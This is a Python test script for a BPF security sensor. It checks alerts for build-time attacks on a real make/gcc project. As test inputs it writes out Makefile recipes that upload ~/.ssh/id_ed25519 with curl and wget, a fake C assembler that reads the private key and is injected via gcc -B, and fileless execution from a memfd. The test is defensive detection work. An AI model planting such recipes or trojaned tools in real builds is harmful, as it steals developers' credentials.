#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""
test_build_canary.py - the build-host canary follows the build, and fileless
execution (a memfd) is called at exec.

The real sensor, shipped rules, a fresh state directory. The project is real
code: the C files of this repository's common/ and baselines/ directories,
compiled by make -j2 (recipes through the shell: `mkdir -p ... && gcc ...`)
into a static library, and a small program linked against it.

  1. first build on the fresh state: no alert at Warning or above for any
     process of the build;
  2. learning: clean + rebuild, LEARN_BUILDS times; then one more clean build:
     still no Warning;
  3. a Makefile whose link recipe also runs `sh -c 'curl ... -T ~/.ssh/id_ed25519'`
     (to 127.0.0.1 on a closed port): "Build step sent data out with a network
     tool" (Warning) for that curl, its ancestry naming make; the same with
     `wget --post-file`; and a recipe that only fetches (curl URL): "Build tool
     ran a network tool", Notice, and not the Warning;
  4. a Makefile whose recipe runs a binary the build never ran (tac): "Build
     tool executed a new binary" for it, its ancestry naming make;
  5. python3 copies /bin/true into a memfd and execs it: "Fileless or deleted
     executable" for that pid, at exec;
  6. a fake `as` (a new ELF owned by an ordinary user that reads the private
     key, then execs the real as) found through `gcc -B DIR/`: under make
     (CC="gcc -B DIR/"), and with gcc run directly after it was learned
     running directly: "Build tool executed a new binary", Warning, for the
     fake as, each time (its parent gcc; under make its ancestry names make).

Alerts are attributed to the test's own processes through the records' ppid
links from each make (other work on the machine is not the test's).
Times-to-alert are measured (alert time - exec time) and printed.

argv: PLUMBLINE_BINARY REPO_SOURCE_DIR. Needs root, BPF, make, gcc, ar, curl,
python3; else skips (77) unless PLUMBLINE_REQUIRE_BPF=1.
"""
import glob
import os
import shutil
import subprocess
import sys
import time

SENSOR, SRC = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
LEARN_BUILDS = 2
DIRECT_LEARN = 12  # direct gcc runs: 2 children each, over the 20 draws a set needs
SENT = "Build step sent data out with a network tool"
FETCHED = "Build tool ran a network tool"
NEW_BIN = "Build tool executed a new binary"
SET_QUIET_S = 3
WARN = 4  # severity: Warning (lower is more severe)
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import scenario_lib as sl  # noqa: E402
from scenario_lib import Failure, fail, finish, log, run_make, settle, skip, tree, Sensor as _Sensor  # noqa: E402


MAKEFILE = """\
CC = gcc
CFLAGS = -std=gnu17 -O0 -w -Isrc/common -Isrc/baselines
SRCS = $(sort $(wildcard src/common/*.c src/baselines/*.c))
OBJS = $(patsubst src/%.c,obj/%.o,$(SRCS))

all: prog

obj/%.o: src/%.c
\t@mkdir -p $(dir $@) && $(CC) $(CFLAGS) -c $< -o $@{extra_obj}

libpl.a: $(OBJS)
\t@rm -f $@ && ar rcs $@ $^

prog: main.c libpl.a
\t@$(CC) $(CFLAGS) main.c libpl.a -lm -o $@ && ./prog > /dev/null{extra_link}

clean:
\t@rm -rf obj libpl.a prog
"""

MAIN = """\
#include <stdio.h>
#include "sample.h"
int main(void) { printf("%s\\n", pl_image__name(PL_IMAGE_EXEC)); return 0; }
"""


# the shipped rules, defaults (a fresh host) but for --set-quiet: a set of
# children is ready once no new member has come for SET_QUIET_S seconds
# (default 600), compressed so that the learning fits in seconds
def Sensor(d):
    return _Sensor(d, "sensor", SENSOR, extra=("--process-records", "--set-quiet", str(SET_QUIET_S)))


FAKE_AS = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	char p[4096], buf[4096];
	(void)argc;
	snprintf(p, sizeof(p), "%s/.ssh/id_ed25519", getenv("HOME") ? getenv("HOME") : "/root");
	int fd = open(p, O_RDONLY);
	if (fd >= 0) {
		(void)!read(fd, buf, sizeof(buf));
		close(fd);
	}
	execv("/usr/bin/as", argv);
	return 127;
}
"""


def fake_as(d, name):
    """A fake `as` in D/NAME/, owned by nobody (an ordinary user's build
    planted it: not a binary only root could have placed)."""
    fdir = os.path.join(d, name)
    os.makedirs(fdir)
    src = os.path.join(d, "fake_as.c")
    with open(src, "w") as f:
        f.write(FAKE_AS + f'const char *tag = "{name}";\n')  # its own content: its own binary
    path = os.path.join(fdir, "as")
    subprocess.run(["gcc", "-O1", "-o", path, src], check=True)
    os.chown(path, 65534, 65534)
    return os.path.realpath(path)


def alerts_of(recs, pids):
    return [r for r in recs if r.get("type") == "alert" and r.get("pid") in pids]


def exec_time(recs, pid):
    t = [r["time_ns"] for r in recs if r.get("type") == "exec" and r.get("pid") == pid]
    return t[-1] if t else None


def make(proj, env, sensor, what):
    return run_make(["-j2"] + what, proj, env)


def wait_alert(sensor, roots, rule, timeout=10):
    deadline = time.time() + timeout
    while time.time() < deadline:
        recs = sensor.records()
        got = [a for a in alerts_of(recs, tree(recs, roots)) if a["rule"] == rule]
        if got:
            return got[0], recs
        time.sleep(0.2)
    recs = sensor.records()
    fail(f"no '{rule}' alert within {timeout} s; the build's alerts: "
         f"{[(a['rule'], a['exe']) for a in alerts_of(recs, tree(recs, roots))]}")


def check_chain(a, want_exe_name):
    anc = (a.get("evidence") or {}).get("ancestry") or []
    names = [os.path.basename(x or "") for x in anc]
    if "make" not in names:
        fail(f"alert '{a['rule']}' ancestry {anc} does not name make")
    if os.path.basename(a.get("exe") or "") != want_exe_name:
        fail(f"alert '{a['rule']}' is for {a.get('exe')}, expected {want_exe_name}")
    return " <- ".join([os.path.basename(a["exe"])] + names)


def main():
    sl.need_bpf("the sensor loads BPF")
    for tool in ("make", "gcc", "ar", "curl", "wget", "tac"):
        if not shutil.which(tool):
            skip(f"no {tool}")
    if not hasattr(os, "memfd_create"):
        skip("python3 without os.memfd_create")

    d = sl.temp_dir("pl-canary-")
    sensor = None
    ok = False
    try:
        proj = os.path.join(d, "proj")
        for sub in ("common", "baselines"):
            os.makedirs(os.path.join(proj, "src", sub))
            for f in glob.glob(os.path.join(SRC, sub, "*.[ch]")):
                shutil.copy(f, os.path.join(proj, "src", sub))
        with open(os.path.join(proj, "main.c"), "w") as f:
            f.write(MAIN)
        home = os.path.join(d, "home")
        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
        with open(os.path.join(home, ".ssh", "id_ed25519"), "w") as f:
            f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n")
        env = dict(os.environ, HOME=home, LC_ALL="C")
        env.pop("MAKEFLAGS", None)
        env.pop("MFLAGS", None)

        def makefile(extra_obj="", extra_link=""):
            with open(os.path.join(proj, "Makefile"), "w") as f:
                f.write(MAKEFILE.format(extra_obj=extra_obj, extra_link=extra_link))

        makefile()
        nsrc = len(glob.glob(os.path.join(proj, "src", "*", "*.c")))
        sensor = Sensor(d)
        log(f"sensor ready; project: {nsrc} C files of {SRC}/common and /baselines")

        # 1. the first build on a fresh host
        roots = []
        t = time.monotonic()
        roots.append(make(proj, env, sensor, []))
        settle(sensor, roots[-1])
        recs = sensor.records()
        first = tree(recs, roots)
        loud = [a for a in alerts_of(recs, first) if a["severity"] <= WARN]
        log(f"first build: {time.monotonic() - t:.1f} s, {len(first)} processes, "
            f"{len(alerts_of(recs, first))} alerts, {len(loud)} at Warning or above")
        # checked at the end, so that every phase runs and reports
        first_loud = [(a['rule'], a['output']) for a in loud]

        # 2. learning
        for i in range(LEARN_BUILDS):
            make(proj, env, sensor, ["clean"])
            roots.append(make(proj, env, sensor, []))
        make(proj, env, sensor, ["clean"])
        roots.append(make(proj, env, sensor, []))
        settle(sensor, roots[-1])
        recs = sensor.records()
        learned = tree(recs, roots)
        loud = [a for a in alerts_of(recs, learned) if a["severity"] <= WARN]
        log(f"{LEARN_BUILDS + 2} builds: {len(learned)} processes, {len(loud)} alerts at Warning or above")
        if loud:
            fail(f"alerts at Warning or above on normal builds: {[(a['rule'], a['output']) for a in loud]}")
        # build tools are keyed by the build they work for: "+build:<the top make's directory>"
        want = "+build:" + os.path.realpath(proj) + "@"
        tools = [r for r in recs if r.get("type") == "process" and r["pid"] in learned and r.get("image") == "exec"
                 and os.path.basename(r.get("exe") or "") in ("cc1", "as", "ar", "make")]
        if not tools or any(want not in ((r.get("baseline") or {}).get("key") or "") for r in tools):
            fail(f"build tools not keyed by the build ({want!r}): "
                 f"{sorted({(os.path.basename(r.get('exe') or ''), (r.get('baseline') or {}).get('key')) for r in tools})}")
        log(f"{len(tools)} build-tool processes keyed by the build: e.g. "
            f"{(tools[0].get('baseline') or {}).get('key')}")
        time.sleep(SET_QUIET_S + 0.5)  # the builds' sets of children stop growing: ready

        # 3. a recipe runs curl through sh -c, posting a private key
        for tool, cmd in (("curl", "curl -s -m 2 -T $$HOME/.ssh/id_ed25519 http://127.0.0.1:9/"),
                          ("wget", "wget -q -T 2 -t 1 --post-file=$$HOME/.ssh/id_ed25519 http://127.0.0.1:9/")):
            makefile(extra_link=f" && sh -c '{cmd} || true'")
            make(proj, env, sensor, ["clean"])
            roots.append(make(proj, env, sensor, []))
            a, recs = wait_alert(sensor, roots[-1:], SENT)
            chain = check_chain(a, tool)
            if a["severity"] > WARN:
                fail(f"'{SENT}' at severity {a['severity']}, not Warning or above")
            if [x for x in alerts_of(recs, {a["pid"]}) if x["rule"] == FETCHED]:
                fail(f"{tool} sending a key also raised '{FETCHED}'")
            tta = (a["time_ns"] - exec_time(recs, a["pid"])) / 1e6
            log(f"'{SENT}' for {tool} pid {a['pid']} ({chain}), time-to-alert {tta:.0f} ms")
        # a fetch is a Notice, not the Warning
        makefile(extra_link=" && sh -c 'curl -s -m 2 -o /dev/null http://127.0.0.1:9/dep.tar.gz || true'")
        make(proj, env, sensor, ["clean"])
        roots.append(make(proj, env, sensor, []))
        a, recs = wait_alert(sensor, roots[-1:], FETCHED)
        chain = check_chain(a, "curl")
        if a["severity"] <= WARN or [x for x in alerts_of(recs, {a["pid"]}) if x["rule"] == SENT]:
            fail(f"a plain fetch raised severity {a['severity']} or '{SENT}'")
        log(f"'{FETCHED}' (severity {a['severity']}) for a plain fetch, pid {a['pid']} ({chain})")

        # 4. a recipe runs a binary the build never ran
        makefile(extra_obj=" && tac /dev/null")
        make(proj, env, sensor, ["clean"])
        roots.append(make(proj, env, sensor, []))
        a, recs = wait_alert(sensor, roots[-1:], "Build tool executed a new binary")
        chain = check_chain(a, "tac")
        tta = (a["time_ns"] - exec_time(recs, a["pid"])) / 1e6
        log(f"'Build tool executed a new binary' for pid {a['pid']} ({chain}), time-to-alert {tta:.0f} ms")

        # 5. fileless: /bin/true run from a memfd
        code = ("import os,sys\nfd=os.memfd_create('payload',0)\nos.write(fd,open('/bin/true','rb').read())\n"
                "pid=os.fork()\nif pid==0:\n os.execv('/proc/self/fd/%d'%fd,['payload'])\n"
                "os.waitpid(pid,0)\nprint(pid)\n")
        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
        mpid = int(out.stdout.strip())
        deadline = time.time() + 10
        while True:
            recs = sensor.records()
            got = [r for r in recs if r.get("type") == "alert" and r.get("pid") == mpid
                   and r["rule"] == "Fileless or deleted executable"]
            if got:
                break
            if time.time() > deadline:
                fail(f"no fileless alert for pid {mpid} in 10 s")
            time.sleep(0.2)
        a = got[0]
        if a.get("when") != "exec":
            fail(f"the fileless alert was raised at {a.get('when')}, not at exec")
        rec = next(r for r in recs if r.get("type") == "exec" and r.get("pid") == mpid)
        if rec.get("exe_kind") != "memfd":
            fail(f"the memfd exec's record says exe_kind {rec.get('exe_kind')}")
        tta = (a["time_ns"] - rec["time_ns"]) / 1e6
        log(f"'Fileless or deleted executable' for pid {mpid} (exe {rec['exe']}, binary {rec.get('binary_id')}), "
            f"time-to-alert {tta:.0f} ms")

        # 6. a fake `as` through gcc -B: under make, then gcc run directly
        fake = fake_as(d, "fake")
        makefile()
        make(proj, env, sensor, ["clean"])
        roots.append(make(proj, env, sensor, [f"CC=gcc -B{os.path.dirname(fake)}/"]))
        a, recs = wait_alert(sensor, roots[-1:], NEW_BIN)
        chain = check_chain(a, "as")
        if a.get("exe") != fake or a["severity"] > WARN:
            fail(f"'{NEW_BIN}' under make is for {a.get('exe')} at severity {a['severity']}, expected {fake}")
        log(f"'{NEW_BIN}' for the fake as under make, pid {a['pid']} ({chain}), time-to-alert "
            f"{(a['time_ns'] - exec_time(recs, a['pid'])) / 1e6:.0f} ms")
        direct = os.path.join(d, "direct")
        os.makedirs(direct)
        with open(os.path.join(direct, "t.c"), "w") as f:
            f.write("int t(void) { return 1; }\n")
        gcc = ["gcc", "-c", "t.c", "-o", "t.o"]
        for _ in range(DIRECT_LEARN):  # gcc's baseline, run by this test, learns cc1 and as
            subprocess.run(gcc, cwd=direct, env=env, check=True)
        time.sleep(SET_QUIET_S + 0.5)
        fake = fake_as(d, "fake2")  # another binary: the rule's throttle is per binary
        p = subprocess.Popen(gcc[:1] + [f"-B{os.path.dirname(fake)}/"] + gcc[1:], cwd=direct, env=env)
        if p.wait(timeout=30) != 0:
            fail("gcc -B with the fake as failed")
        a, recs = wait_alert(sensor, [p.pid], NEW_BIN)
        ppid = next((r.get("ppid") for r in recs if r.get("type") == "exec" and r.get("pid") == a["pid"]), None)
        if a.get("exe") != fake or a["severity"] > WARN or ppid != p.pid:
            fail(f"'{NEW_BIN}' for direct gcc is for {a.get('exe')} (ppid {ppid}) at severity "
                 f"{a['severity']}, expected {fake} under gcc pid {p.pid}")
        direct_loud = [x for x in alerts_of(recs, tree(recs, [p.pid])) if x["severity"] <= WARN and x is not a
                       and x["rule"] != NEW_BIN]
        if direct_loud:
            fail(f"other alerts on the direct gcc: {[(x['rule'], x['exe']) for x in direct_loud]}")
        log(f"'{NEW_BIN}' for the fake as under a direct gcc, pid {a['pid']}, time-to-alert "
            f"{(a['time_ns'] - exec_time(recs, a['pid'])) / 1e6:.0f} ms")
        if first_loud:
            fail(f"alerts at Warning or above on the first build: {first_loud}")
        ok = True
    except Failure as e:
        print(f"FAIL: {e}", file=sys.stderr)
    finally:
        finish([sensor], d, ok)


if __name__ == "__main__":
    main()
